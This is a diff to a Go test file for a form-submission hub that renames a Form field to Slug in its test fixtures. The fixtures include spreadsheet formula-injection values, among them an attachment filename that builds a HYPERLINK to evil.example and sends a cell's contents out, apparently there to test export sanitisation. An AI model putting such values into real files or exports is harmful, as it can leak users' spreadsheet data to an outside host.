@@ -25,7 +25,7 @@ func storeSubmissions(t *testing.T, data string, subs ...hub.Submission) {
 	ctx := context.Background()
 	for _, s := range subs {
 		for _, a := range s.Attachments {
-			u := hub.Upload{Key: a.Key, Site: s.Site, Form: s.Form, Filename: a.Filename, MIME: a.MIME, Size: a.Size,
+			u := hub.Upload{Key: a.Key, Site: s.Site, Slug: s.Slug, Filename: a.Filename, MIME: a.MIME, Size: a.Size,
 				CreatedAt: s.CreatedAt, ExpiresAt: s.CreatedAt.Add(time.Minute)}
 			if err := db.CreateUpload(ctx, u); err != nil {
 				t.Fatal(err)
@@ -44,12 +44,12 @@ func TestSubmissionsFormats(t *testing.T) {
 	data := t.TempDir()
 	at := time.Date(2026, 11, 21, 9, 0, 0, 0, time.UTC)
 	storeSubmissions(t, data,
-		hub.Submission{ID: hub.NewID(at), Site: "acme", Form: "contact", CreatedAt: at,
+		hub.Submission{ID: hub.NewID(at), Site: "acme", Slug: "contact", CreatedAt: at,
 			Payload: []byte(`{"name":"Jane","tags":["a","b"],"formula":"=HYPERLINK(\"x\")","n":3}`)},
-		hub.Submission{ID: hub.NewID(at.Add(time.Second)), Site: "acme", Form: "survey", CreatedAt: at.Add(time.Second),
+		hub.Submission{ID: hub.NewID(at.Add(time.Second)), Site: "acme", Slug: "survey", CreatedAt: at.Add(time.Second),
 			Payload:     []byte(`{"plan":"pro"}`),
 			Attachments: []hubclient.Attachment{{Key: "uploads/acme/survey/k/a.png", Filename: "a.png", Size: 3, MIME: "image/png"}}},
-		hub.Submission{ID: hub.NewID(at.Add(2 * time.Second)), Site: "acme", Form: "survey", CreatedAt: at.Add(2 * time.Second),
+		hub.Submission{ID: hub.NewID(at.Add(2 * time.Second)), Site: "acme", Slug: "survey", CreatedAt: at.Add(2 * time.Second),
 			Payload: []byte(`{"plan":"-5","n":-5}`),
 			Attachments: []hubclient.Attachment{
 				{Key: "uploads/acme/survey/l/x.csv", Filename: `=HYPERLINK("http://evil.example/?"&B2,"Open")`, Size: 3, MIME: "text/csv"},
